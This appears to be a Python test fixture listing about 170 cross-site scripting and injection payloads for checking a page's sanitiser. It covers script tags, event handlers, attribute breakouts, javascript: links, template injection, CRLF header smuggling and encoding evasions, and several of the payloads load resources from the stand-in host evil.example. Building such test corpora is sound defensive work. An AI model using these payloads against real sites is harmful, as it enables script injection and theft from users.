"""What would somebody write who wants a page to run it? Each would call __ran(), name __ran in a place of its own, or lead to it."""

CALL = "__ran(1)"

ELEMENTS = [
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", "<script src=//evil.example/__ran.js></script>", f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"</script><script>{CALL}</script>",
    f"<script type=module>{CALL}</script>", f"<svg><script>{CALL}</script></svg>", f"<math><mi><script>{CALL}</script></mi></math>",
    f"<template><script>{CALL}</script></template>", f"<noscript><script>{CALL}</script></noscript>", "<base href=//evil.example/__ran/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/__ran'>", "<link rel=stylesheet href=//evil.example/__ran.css>",
    "<iframe src=//evil.example/__ran></iframe>", f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "<object data=//evil.example/__ran></object>", "<embed src=//evil.example/__ran>", "<applet code=__ran></applet>",
    "<form action=//evil.example/__ran><button>Go on</button></form>", "<frameset><frame src=//evil.example/__ran></frameset>",
    f"<marquee onstart={CALL}>x</marquee>", "<portal src=//evil.example/__ran></portal>", "<img src=//evil.example/__ran.png>",
    "<plaintext>__ran", "<xmp>__ran", f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>", "<isindex action=//evil.example/__ran>",
    f"<keygen autofocus onfocus={CALL}>", f"<![CDATA[<script>{CALL}</script>]]>", f"<!--><script>{CALL}</script>-->",
    f"--><script>{CALL}</script><!--", f"--!><script>{CALL}</script>", f"<!DOCTYPE x [<!ENTITY r '<script>{CALL}</script>'>]>&r;",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script>", f"<%= {CALL} %>", f"<? {CALL} ?>",
]
EVENTS = [
    f"<img src=x onerror={CALL}>", f"<img src=x onerror='{CALL}'>", f'<img src=x onerror="{CALL}">', f"<img/src=x/onerror={CALL}>",
    f"<img src=x\tonerror\n=\r{CALL}>", f"<IMG SRC=x OnErRoR={CALL}>", f"<img src=x onerror=`{CALL}`>", f"<img src=`x`onerror={CALL}>",
    f"<svg onload={CALL}>", f"<svg/onload={CALL}//", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x>", f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'>", f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    f"<body onload={CALL}>", f"<body onpageshow={CALL}>", f"<html onmouseover={CALL}>", f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>", f"<textarea autofocus onfocus={CALL}>", f"</textarea><img src=x onerror={CALL}>",
    f"</title><img src=x onerror={CALL}>", f"</style><img src=x onerror={CALL}>", f"</noscript><img src=x onerror={CALL}>",
    f"</template><img src=x onerror={CALL}>", f"</select><img src=x onerror={CALL}>", f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}>", f"<video src=x onerror={CALL}></video>", f"<audio src=x onerror={CALL}></audio>",
    f"<a onmouseover={CALL}>x</a>", f"<b onclick={CALL}>press me</b>", f"<p style=animation-name:x onanimationstart={CALL}>",
    f"<div onpointerover={CALL}>x</div>", f"<div contenteditable autofocus onfocus={CALL}>x</div>", f"<x tabindex=1 onfocusin={CALL}>x</x>",
    f"<button popovertarget=x onbeforetoggle={CALL}>x</button>", f"<dialog open onclose={CALL}>x</dialog>", f"<meter onmouseover={CALL}>",
]
QUOTES = [
    f'" onmouseover="{CALL}', f"' onmouseover='{CALL}", f'" autofocus onfocus={CALL} x="', f"' autofocus onfocus={CALL} x='",
    f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f'"/><img src=x onerror={CALL}>', f"`onmouseover={CALL}",
    f'\\"><script>{CALL}</script>', f"\\'><script>{CALL}</script>", f'"}};{CALL};//', f"'}};{CALL};//", f"';{CALL};'", f'";{CALL};"',
    f"\\';{CALL};//", f"*/{CALL}/*", f"//\n{CALL}", '"', "'", "`", "<", ">", "&", "</", "<!", "&lt", "'\"`<>&", '" data-piece="__ran',
    '" data-live="{"__ran":1}', '" formaction="//evil.example/__ran', '" href="//evil.example/__ran', '" id="__ran" data-outbox="',
]
LINKS = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}",
    f"javascript&colon;{CALL}", f"&#106;avascript:{CALL}", f"javascript://example.org/%0a{CALL}", f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==", "blob:https://evil.example/__ran",
    f"view-source:javascript:{CALL}", f"https://example.org/'onmouseover='{CALL}", f'https://example.org/"onmouseover="{CALL}',
    f"https://example.org/<script>{CALL}</script>", f"http://example.org\" onclick={CALL} x=\"", f"www.example.org\"onmouseover={CALL}//",
    f"[a link](javascript:{CALL})", f"![a picture](x\" onerror=\"{CALL})", f"<javascript:{CALL}>", f"[x]: javascript:{CALL}",
    f"someone@example.org\"onmouseover={CALL}", f"mailto:a@example.org?subject=\"onclick={CALL}", f"https://javascript:{CALL}@example.org",
]
TEMPLATES = [
    "{{ 7*191 }}", "{{ config }}", "{% raw %}{{ 7*191 }}", "{%- set __ran = 1 -%}", "{# __ran #}", "${7*191}", f"${{{CALL}}}", "#{7*191}",
    "%(name)s", "%s %(left)d %", "{0} {name}", f"{{{{constructor.constructor('{CALL}')()}}}}", "{text} {why}",
]
CODES = [
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}&#60;/script&#62;", f"&#x3c;img src=x onerror={CALL}&#x3e;",
    f"%3Cscript%3E{CALL}%3C/script%3E", f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f"\\x3cscript\\x3e{CALL}",
    f"+ADw-script+AD4-{CALL}",
    f"＜script＞{CALL}＜/script＞", f"‹script›{CALL}", f"\u202e<script>{CALL}</script>", f"\ufeff<script>{CALL}</script>",
    f"a\u2028{CALL}", f"a\u2029{CALL}", f"\u0085{CALL}", f"<\u200bscript>{CALL}</script>", f"ſcript<ſcript>{CALL}</ſcript>",
    f"İ<img src=x onerror={CALL}>",
    f"x\r\nSet-Cookie: __ran=1\r\n\r\n<script>{CALL}</script>", f"<style>@import'//evil.example/__ran';*{{x:expression({CALL})}}</style>",
    f"expression({CALL})", "};body{background:url(//evil.example/__ran)}",
]
PAYLOADS = [*ELEMENTS, *EVENTS, *QUOTES, *LINKS, *TEMPLATES, *CODES]
# All of them in one text, as few people write; a text is read from its beginning, so each kind has its turn there.
PACKED = "\n".join(PAYLOADS)
